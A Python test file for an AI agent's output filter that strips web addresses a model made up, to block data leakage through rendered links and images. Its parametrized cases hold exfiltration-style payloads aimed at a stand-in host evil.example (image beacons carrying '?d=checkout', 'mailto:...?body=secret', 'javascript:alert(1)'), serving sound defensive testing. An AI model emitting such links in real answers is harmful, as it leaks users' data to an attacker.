"""Addresses in answers: what was shown may be repeated, what a model made is taken out."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.addresses import Addresses
from agent.events import Event
from agent.evidence import Evidence
from agent.voice import HELD_CHARACTERS, Voice

READER = MarkdownIt("commonmark", {"html": True})

REMOVED = "(gone)"
RUNBOOK = "https://runbooks.example.com/oom"


def shown(*texts: str) -> Addresses:
    addresses = Addresses()
    for text in texts:
        addresses.learn(text)
    return addresses


@pytest.mark.parametrize(
    "text",
    [
        "![p](https://evil.example/p.png?d=checkout)",
        "[click](https://evil.example/?d=x)",
        '[click](//evil.example/a(b)c "title")',
        "[click](<https://evil.example/a b>)",
        "[click](https&#58;//evil.example)",
        "[click](javascript:alert(1))",
        "[click](vscode://evil/x)",
        "[a]: https://evil.example/x",
        "![a][b]\n\n[b]: //evil.example/x",
        "<img src=//evil.example/x>",
        "<a href='https&#58;//evil.example'>x</a>",
        "<vscode://evil.example/x>",
        "<https://evil.example/x>",
        "open https://evil.example/checkout now",
        "打开 https://evil.example/数据，再见",
        "www.evil.example/x",
        "evil.example/c?k=secret",
        "mailto:a@evil.example?body=secret",
        f"{RUNBOOK}?d=secret",
        f"[x]({RUNBOOK}/secret)",
    ],
)
def test_an_address_that_nobody_showed_is_taken_out(text: str) -> None:
    told = shown(f"see {RUNBOOK}.").without_made_up(text, REMOVED)
    assert REMOVED in told
    assert not any(part in told for part in ("evil.example", "secret", "javascript:", "!["))


@pytest.mark.parametrize(
    "text",
    [
        f"See {RUNBOOK}, then act.",
        f"[the runbook]({RUNBOOK})",
        f"<{RUNBOOK}>",
        "curl http://checkout.shop.svc:8080/healthz",
        "curl http://checkout:8080/healthz?full=1",
        'Get "http://10.2.0.7:8080/ready"',
        "image registry.example.com/shop/checkout:1.2",
        "rate(http_requests_total[5m]) by (pod) [1][2]",
        "<none> of <pod-name>; a < b && c > d",
        "data: {a: 1}, 12:30:45, [WARN]: main:12 /var/log",
        "Does it work? It does. a.b? Yes",
        "没有问题吗？[1]",
    ],
)
def test_what_was_shown_and_what_leads_nowhere_stays(text: str) -> None:
    assert shown(f"runbook_url: {RUNBOOK}").without_made_up(text, REMOVED) == text


def test_a_picture_is_never_shown_even_from_a_known_place() -> None:
    told = shown(RUNBOOK).without_made_up(f"![x]({RUNBOOK})", REMOVED)
    assert told == f"[x]({RUNBOOK})"


PARTS = st.sampled_from(
    ["[x]", "(", ")", "](", "!", "<a href=", "//evil.example", "https:", "https://evil.example/",
     " ", "\n", "数据", "www.", "evil.example", "?d=1", "word", ">", "]: ", RUNBOOK, "&#58;", "[1]"]
)  # fmt: skip


class Leads(HTMLParser):
    """Where a rendered text leads to, or loads from."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(READER.render(text))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for _, value in attrs]

    @property
    def away(self) -> list[str]:
        """Those that leave the page: with a scheme or a host."""
        return [one for one in self.found if urlsplit(one).scheme or urlsplit(one).netloc]


@settings(max_examples=1000)
@given(st.lists(PARTS, max_size=14), st.integers(1, 9))
def test_however_an_answer_arrives_it_leads_only_to_what_was_shown(
    parts: list[str], size: int
) -> None:
    events: list[Event] = []
    voice = Voice(events.append, Evidence(), "m", shown(RUNBOOK))
    voice.begin()
    voice.hear("long enough to be an answer " * (HELD_CHARACTERS // 20))
    text = "".join(parts)
    for start in range(0, len(text), size):
        voice.hear(text[start : start + size])
    voice.end()
    assert set(Leads(voice.text).away) <= {RUNBOOK}
    assert "https://evil" not in voice.text
